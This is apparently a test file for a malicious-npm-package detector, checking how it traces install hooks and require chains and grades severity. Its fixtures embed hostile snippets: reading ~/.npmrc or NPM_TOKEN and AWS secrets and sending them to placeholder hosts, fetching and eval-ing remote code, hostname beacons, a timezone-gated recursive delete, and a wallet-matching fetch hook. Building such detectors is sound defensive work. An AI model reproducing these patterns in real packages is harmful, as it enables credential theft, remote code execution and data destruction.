/** The behaviour model: entry points, traced flows, and severity from the chain rather than from strings. */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { analyzeContent } from '../../src/analyzers/content/index.js';
import { filesOf } from './helpers.js';

const pkg = (extra: Record<string, unknown> = {}): string => JSON.stringify({ name: 'p', version: '1.0.0', ...extra });
const run = async (files: Record<string, string>) => analyzeContent(filesOf(files), 'pkg:npm/p@1.0.0');
const rules = async (files: Record<string, string>): Promise<string[]> =>
  (await run(files)).findings
    .filter((f) => f.rule !== 'content/install-capabilities')
    .map((f) => `${f.rule}:${f.severity}`)
    .sort();

test('a secret path held in a variable, read, then written to a request: proven install-time exfiltration with file:line', async () => {
  const { findings, facts } = await run({
    'package.json': pkg({ scripts: { postinstall: 'node lib/x.js' } }),
    'lib/x.js':
      "const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nconst https = require('https');\nconst p = path.join(os.homedir(), '.npmrc');\nconst t = fs.readFileSync(p, 'utf8');\nconst r = https.request({ host: 'h.invalid', method: 'POST' });\nr.end(t);\n",
  });
  const f = findings.find((x) => x.rule === 'content/secret-exfiltration')!;
  assert.equal(f.severity, 'critical');
  assert.equal(f.confidence, 'high', 'the flow is traced, not just co-located');
  assert.equal(facts.behaviour?.chains[0]?.proven, true);
  const hops = f.evidence.map((e) => `${e.label?.split(':')[0]} ${e.file ?? e.field}${e.line ? `:${e.line}` : ''}`);
  assert.deepEqual(hops, ['entry (install) scripts.postinstall', 'source lib/x.js:5', 'sink lib/x.js:8']);
});

test('the environment handed to a child process is not exfiltration', async () => {
  assert.deepEqual(
    await rules({
      'package.json': pkg({ scripts: { postinstall: 'node build.js' } }),
      'build.js':
        "const { spawnSync } = require('child_process');\nconst https = require('https');\nspawnSync('node-gyp', ['rebuild'], { env: { ...process.env, CXX: 'g++' }, stdio: 'inherit' });\nhttps.get('https://releases.tool.invalid/v1/bin', (r) => r.resume());\n",
    }),
    [],
  );
});

test('listing ~/.ssh/*.pub next to an HTTP client is neither credential access nor exfiltration', async () => {
  assert.deepEqual(
    await rules({
      'package.json': pkg({ bin: { t: 'cli.js' } }),
      'cli.js':
        "const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nconst https = require('https');\nconst dir = path.join(os.homedir(), '.ssh');\nconst keys = fs.readdirSync(dir).filter((f) => f.endsWith('.pub'));\nconsole.log(keys);\nmodule.exports = (o) => https.request(o);\n",
    }),
    [],
  );
});

test('download → write → chmod: high at install, low when the download is checked against a hash', async () => {
  const body = (check: boolean) =>
    "const https = require('https');\nconst fs = require('fs');\nconst crypto = require('crypto');\nhttps.get('https://dl.invalid/tool', (res) => {\n  const parts = [];\n  res.on('data', (c) => parts.push(c));\n  res.on('end', () => {\n    const buf = Buffer.concat(parts);\n" +
    (check ? "    if (crypto.createHash('sha256').update(buf).digest('hex') !== 'ab') throw new Error('bad');\n" : '') +
    "    fs.writeFileSync('bin/tool', buf);\n    fs.chmodSync('bin/tool', 0o755);\n  });\n});\n";
  assert.deepEqual(await rules({ 'package.json': pkg({ scripts: { install: 'node i.js' } }), 'i.js': body(false) }), [
    'content/remote-code:high',
  ]);
  assert.deepEqual(await rules({ 'package.json': pkg({ scripts: { install: 'node i.js' } }), 'i.js': body(true) }), [
    'content/remote-code:low',
  ]);
});

test('binding.gyp without an install script is an install entry that reaches the files its expansions run', async () => {
  const { facts, findings } = await run({
    'package.json': pkg(),
    'binding.gyp': '{ "targets": [ { "target_name": "a", "sources": ["<!(node gen.js)"] } ] }',
    'gen.js': "const dns = require('dns');\nconst os = require('os');\ndns.lookup(os.hostname() + '.b.invalid', () => {});\n",
  });
  const gyp = facts.behaviour!.entries.find((e) => e.field === 'binding.gyp')!;
  assert.equal(gyp.implicit, true);
  assert.deepEqual(gyp.reach, ['binding.gyp', 'gen.js']);
  assert.deepEqual(
    findings.map((f) => `${f.rule}:${f.severity}`),
    ['content/identity-beacon:high'],
  );
});

test('a chain found through main names every require hop with its line', async () => {
  const { findings } = await run({
    'package.json': pkg({ main: 'index.js' }),
    'index.js': "'use strict';\nmodule.exports = require('./lib/util');\n",
    'lib/util.js': "const load = require('./net');\nmodule.exports = load;\n",
    'lib/net.js': "fetch('https://cfg.invalid/x.js').then((r) => r.text()).then((src) => eval(src));\n",
  });
  const f = findings.find((x) => x.rule === 'content/remote-code')!;
  assert.equal(f.severity, 'high');
  assert.deepEqual(
    f.evidence.filter((e) => e.label?.startsWith('import')).map((e) => `${e.file}:${e.line}`),
    ['index.js:2', 'lib/util.js:1'],
  );
});

test('the same identity flow is a beacon at install and low at runtime', async () => {
  const code = "const os = require('os');\nfetch('https://t.invalid/?h=' + os.hostname());\n";
  assert.deepEqual(await rules({ 'package.json': pkg({ scripts: { preinstall: 'node t.js' } }), 't.js': code }), [
    'content/identity-beacon:high',
  ]);
  assert.deepEqual(await rules({ 'package.json': pkg({ main: 't.js' }), 't.js': code }), ['content/identity-beacon:low']);
});

test('a time-zone gate through a variable before a recursive delete is sabotage', async () => {
  assert.deepEqual(
    await rules({
      'package.json': pkg({ main: 'i.js' }),
      'i.js':
        "const fs = require('fs');\nconst zone = Intl.DateTimeFormat().resolvedOptions().timeZone;\nif (zone === 'Region/City') fs.rmSync(process.cwd(), { recursive: true });\n",
    }),
    ['content/sabotage:high'],
  );
});

test('an endless loop counts only in code that loading the package runs', async () => {
  const loop = 'while (true) {\n  work();\n}\nfunction work() {}\n';
  assert.deepEqual(await rules({ 'package.json': pkg({ main: 'index.js' }), 'index.js': loop }), ['content/sabotage:high']);
  assert.deepEqual(
    await rules({ 'package.json': pkg({ main: 'index.js' }), 'index.js': 'module.exports = 1;\n', 'scripts/serve.js': loop }),
    [],
  );
  assert.deepEqual(
    await rules({
      'package.json': pkg({ main: 'index.js' }),
      'index.js': 'while (true) {\n  if (next()) break;\n}\nfunction next() { return true; }\n',
    }),
    [],
  );
});

test('replacing fetch is low alone and high with wallet-address matching', async () => {
  const hook = 'window.fetch = function (u, o) { return orig(u, o); };\nconst orig = fetch;\n';
  assert.deepEqual(await rules({ 'package.json': pkg({ browser: 'b.js' }), 'b.js': hook }), ['content/browser-hijack:low']);
  assert.deepEqual(await rules({ 'package.json': pkg({ browser: 'b.js' }), 'b.js': hook + 'const re = /0x[a-fA-F0-9]{40}/g;\n' }), [
    'content/browser-hijack:high',
  ]);
});

test('a tool sending its own single token is medium at runtime; harvesting several secrets is high', async () => {
  assert.deepEqual(
    await rules({
      'package.json': pkg({ main: 'i.js' }),
      'i.js': "fetch('https://api.invalid/x', { headers: { authorization: 'token ' + process.env.GITHUB_TOKEN } });\n",
    }),
    ['content/secret-exfiltration:medium'],
  );
  assert.deepEqual(
    await rules({
      'package.json': pkg({ main: 'i.js' }),
      'i.js':
        "const h = { a: process.env.NPM_TOKEN, b: process.env.AWS_SECRET_ACCESS_KEY };\nfetch('https://api.invalid/x', { headers: h });\n",
    }),
    ['content/secret-exfiltration:high'],
  );
});
